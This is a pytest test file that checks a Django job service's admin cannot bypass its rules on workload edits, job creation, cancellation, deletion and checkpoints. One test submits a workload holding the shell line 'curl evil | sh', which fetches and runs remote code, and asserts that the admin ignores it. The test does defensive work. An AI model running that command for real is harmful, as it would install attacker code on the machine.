"""The job admin cannot bypass the rules: no workload or state edits, no jobs added by hand,
cancelling goes through the service, unfinished jobs are not deleted, and a deleted job's
checkpoints go with it."""

from __future__ import annotations

from typing import Any

import numpy as np
import pytest
from django.test import Client

from jobs.models import Job
from migration import replication
from migration.models import Checkpoint
from tests.conftest import submit, wait_until

pytestmark = pytest.mark.django_db


@pytest.fixture
def staff_client(make_user: Any) -> Client:
    client = Client()
    client.force_login(make_user("root", staff=True))
    return client


def test_workload_and_state_cannot_be_changed_in_the_admin(
    staff_client: Client, catalogue: Any, alice: Any
) -> None:
    job = submit(alice, catalogue)
    page = staff_client.get(f"/admin/jobs/job/{job.pk}/change/").content.decode()

    staff_client.post(
        f"/admin/jobs/job/{job.pk}/change/",
        {
            "name": "renamed",
            "workload": '{"command": ["sh", "-c", "curl evil | sh"], "mode": "directory"}',
            "state": "succeeded",
        },
    )
    job.refresh_from_db()

    assert 'name="workload"' not in page and 'name="state"' not in page
    assert job.name == "renamed"
    assert job.workload == {"template": "mlp_numpy", "params": {}} and job.state == "pending"


def test_jobs_are_not_added_in_the_admin(staff_client: Client) -> None:
    assert staff_client.get("/admin/jobs/job/add/").status_code == 403


def test_cancelling_in_the_admin_goes_through_the_lifecycle(
    staff_client: Client, catalogue: Any, alice: Any
) -> None:
    job = submit(alice, catalogue)

    staff_client.post("/admin/jobs/job/", {"action": "cancel", "_selected_action": [job.pk]})

    job.refresh_from_db()
    assert job.state == "cancelled"
    assert list(job.events.values_list("kind", flat=True)) == ["job_submitted", "cancelled"]


def test_an_unfinished_job_is_not_deleted_in_the_admin(
    staff_client: Client, catalogue: Any, alice: Any
) -> None:
    job = submit(alice, catalogue)

    page = staff_client.get(f"/admin/jobs/job/{job.pk}/delete/")
    staff_client.post(
        "/admin/jobs/job/",
        {"action": "delete_selected", "_selected_action": [job.pk], "post": "yes"},
    )

    assert page.status_code == 403
    assert Job.objects.filter(pk=job.pk).exists()


def test_checkpoints_and_migrations_are_read_only_in_the_admin(
    staff_client: Client, catalogue: Any, alice: Any
) -> None:
    job = submit(alice, catalogue)
    checkpoint = Checkpoint.objects.create(
        job=job, step=10, kind="periodic", status="committed", manifest_key="k"
    )

    staff_client.post(
        f"/admin/migration/checkpoint/{checkpoint.pk}/change/", {"status": "corrupt", "step": 99}
    )

    checkpoint.refresh_from_db()
    assert (checkpoint.status, checkpoint.step) == ("committed", 10)
    assert staff_client.get("/admin/migration/migration/add/").status_code == 403


def test_the_admin_is_for_staff_only(client: Client, alice: Any) -> None:
    client.force_login(alice)

    assert client.get("/admin/jobs/job/").status_code == 302  # to the admin's login


@pytest.mark.django_db(transaction=True)
def test_deleting_a_finished_job_in_the_admin_removes_its_checkpoints(
    staff_client: Client, catalogue: Any, alice: Any, celery_worker: Any
) -> None:
    job = submit(alice, catalogue)
    region = catalogue["region"]
    with replication.open_region(region.code, job) as store:
        saved = store.save(job.checkpoint_key, 10, {"w": np.ones(1024, dtype=np.float32)})
    replication.record_home(
        Checkpoint.objects.create(
            job=job,
            step=10,
            kind="periodic",
            status="committed",
            manifest_key=saved.ref.key,
            region=region,
        )
    )
    Job.objects.filter(pk=job.pk).update(state="succeeded")

    confirm = staff_client.get(f"/admin/jobs/job/{job.pk}/delete/").content.decode()
    page = staff_client.post(f"/admin/jobs/job/{job.pk}/delete/", {"post": "yes"}, follow=True)

    assert "also removes its checkpoints from every region" in confirm
    assert f"Removing the checkpoints of job(s) {job.pk}" in page.content.decode()
    assert not Job.objects.filter(pk=job.pk).exists()

    def removed() -> bool:
        with replication.open_region(region.code, job) as store:
            return store.list(job.checkpoint_key) == []

    wait_until(removed, timeout=60)
